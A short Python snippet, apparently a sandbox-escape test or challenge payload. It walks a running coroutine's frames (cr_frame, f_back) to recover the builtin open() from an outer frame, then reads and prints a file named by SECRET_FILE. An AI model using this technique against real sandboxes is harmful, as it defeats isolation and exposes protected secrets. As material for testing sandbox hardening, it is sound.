# Walks up the frames from a running coroutine, which has other names for them than a generator.
async def walk():
    frame = walker.cr_frame
    while frame and "open" not in frame.f_builtins:
        frame = frame.f_back
    print(frame.f_builtins["open"](SECRET_FILE).read())


walker = walk()
try:
    walker.send(None)
except StopIteration:
    pass
